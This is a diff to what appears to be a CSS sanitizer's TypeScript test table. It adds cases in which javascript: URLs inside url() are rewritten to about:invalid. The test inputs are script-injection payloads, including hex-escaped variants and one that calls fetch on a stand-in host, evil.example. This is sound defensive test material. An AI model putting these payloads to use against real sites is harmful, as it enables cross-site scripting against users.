@@ -13,9 +13,15 @@ export const CSS_ATTACKS: Array<{ name: string; css: string; clean: string }> = 
   { name: 'unquoted', css: 'b{background:url(javascript:alert%281%29)}', clean: 'b{background:url("about:invalid")}' },
   { name: 'double quotes', css: 'b{background:url("javascript:alert(1)")}', clean: 'b{background:url("about:invalid")}' },
   { name: 'single quotes', css: "b{background:url('javascript:alert(1)')}", clean: 'b{background:url("about:invalid")}' },
-  // A quote makes an unquoted url() bad; it ends at the first `)`, as in the browser, and the second stays as it was.
-  { name: 'a quote inside an unquoted URL', css: "b{background:url(javascript:alert('x'))}", clean: 'b{background:url("about:invalid"))}' },
-  { name: 'a double quote inside an unquoted URL', css: 'b{background:url(javascript:alert("x"))}', clean: 'b{background:url("about:invalid"))}' },
+  // A quote makes an unquoted url() bad (the browser drops it); it is replaced up to its balancing `)`.
+  { name: 'a quote inside an unquoted URL', css: "b{background:url(javascript:alert('x'))}", clean: 'b{background:url("about:invalid")}' },
+  { name: 'a double quote inside an unquoted URL', css: 'b{background:url(javascript:alert("x"))}', clean: 'b{background:url("about:invalid")}' },
+  {
+    name: 'several calls inside an unquoted URL',
+    css: "b{background:url(javascript:alert('x');fetch('https://evil.example/'))}",
+    clean: 'b{background:url("about:invalid")}',
+  },
+  { name: 'an unbalanced bad URL', css: "b{background:url(javascript:alert('x')} i{color:red}", clean: 'b{background:url("about:invalid")} i{color:red}' },
   { name: 'single quotes inside double quotes', css: `b{background:url("javascript:alert('x')")}`, clean: 'b{background:url("about:invalid")}' },
   { name: 'escaped quotes inside quotes', css: 'b{background:url("javascript:alert(\\"x\\")")}', clean: 'b{background:url("about:invalid")}' },
   { name: 'a hex escape (\\6a avascript)', css: 'b{background:url(\\6a avascript:x)}', clean: 'b{background:url("about:invalid")}' },
